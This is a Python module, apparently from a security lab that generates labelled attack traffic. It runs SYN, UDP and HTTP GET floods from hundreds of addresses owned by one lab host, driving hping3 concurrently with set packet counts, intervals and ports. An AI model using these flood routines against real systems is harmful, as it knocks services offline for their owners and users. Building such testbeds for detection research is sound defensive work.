"""Denial of service by many hosts: SYN and UDP packets (hping3) and GETs, from hundreds of addresses that one host owns.

The addresses are not forged: the namespace of the botnet has them all, so answers come back to it, and it resets what it
did not open, as the hosts of a real one do. Which addresses take part is drawn from the instance's seed.
"""

from __future__ import annotations

import asyncio
import random
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path

from ..site import Attack, LabError, Line, Site, Value
from . import instance, requests
from .kind import Kind

PACKETS: Mapping[str, Value] = {"sources": 200, "packets": 20, "every_us": 20_000, "together": 8}
"""packets: from each source; every_us: between two of them; together: how many sources send at the same time."""


def sources(attack: Attack, site: Site) -> list[str]:
    """Draw the addresses that take part; LabError when the attacker has not as many."""
    wanted, owned = instance.whole(attack, "sources"), site[attack.attacker].ipv4
    if wanted > len(owned):
        raise LabError(f"{attack.name}: sources is {wanted}: {attack.attacker} has {len(owned)} addresses")
    return random.Random(attack.seed).sample(owned, wanted)


def _lines(attack: Attack, site: Site, used: Sequence[str], protocol: str) -> Iterator[Line]:
    port = str(instance.whole(attack, "port"))
    for address in used:
        yield Line(address, instance.target(attack, site), dst_port=port, protocol=protocol)


def syn_flood(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Begin connections that are never finished."""
    used = sources(attack, site)
    yield from _lines(attack, site, used, "tcp")
    asyncio.run(_hping3(attack, site, run, used, ("-S",)))


def udp_flood(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Send datagrams that nobody has asked for."""
    used = sources(attack, site)
    yield from _lines(attack, site, used, "udp")
    for address in used:  # a victim without such a service says so
        yield Line(address, instance.target(attack, site), protocol="icmp")
    asyncio.run(_hping3(attack, site, run, used, ("-2", "-d", str(instance.whole(attack, "payload_bytes")))))


def http_ddos(attack: Attack, site: Site, run: Path) -> Iterator[Line]:
    """Ask for pages from many addresses."""
    used = sources(attack, site)
    yield from _lines(attack, site, used, "tcp")
    requests.flood(attack, site, run, used, len(used) * instance.whole(attack, "requests"))


async def _hping3(attack: Attack, site: Site, run: Path, used: Sequence[str], mode: Sequence[str]) -> None:
    """Run hping3 once for each source, some at the same time: each run takes one address."""
    common = ("-n", "-q", "-c", str(instance.whole(attack, "packets")), "-i", f"u{instance.whole(attack, 'every_us')}")
    whither = ("-p", str(instance.whole(attack, "port")), instance.target(attack, site))
    argv = (instance.program("hping3", "hping3"), *mode, *common)
    instance.note(attack, run, " ".join((*argv, "-a", "ADDRESS", *whither)) + f" # each of {len(used)} addresses")
    room = asyncio.Semaphore(instance.whole(attack, "together"))

    async def one(address: str) -> int:
        async with room:
            nowhere = asyncio.subprocess.DEVNULL
            tool = await asyncio.create_subprocess_exec(*argv, "-a", address, *whither, stdout=nowhere, stderr=nowhere)
            return await tool.wait()

    statuses = await asyncio.gather(*(one(address) for address in used))
    failed = sum(status not in HPING3_ENDED for status in statuses)
    if failed:
        raise LabError(f"{attack.name}: hping3 failed for {failed} of {len(used)} addresses")


HPING3_ENDED = (0, 1)
"""1 where no answer was heard, as is usual with an address that it does not listen to itself."""

PORTS: Mapping[str, Value] = {"port": 80}

KINDS = (
    Kind(
        "syn_flood",
        "DDoS",
        ("hping3",),
        ("hping3",),
        {**PACKETS, **PORTS},
        syn_flood,
        "SYNs from hundreds of addresses",
        quiet=True,
    ),
    Kind(
        "udp_flood",
        "DDoS",
        ("hping3",),
        ("hping3",),
        {**PACKETS, "together": 24, "port": 9999, "payload_bytes": 256},
        udp_flood,
        "datagrams from hundreds of addresses",
        quiet=True,
    ),
    Kind(
        "http_ddos",
        "DDoS",
        (),
        (),
        {**PORTS, "path": "/", "sources": 200, "requests": 15, "together": 60, "rate": 200, "seconds": 40.0},
        http_ddos,
        "GETs from hundreds of addresses",
        quiet=True,
    ),
)
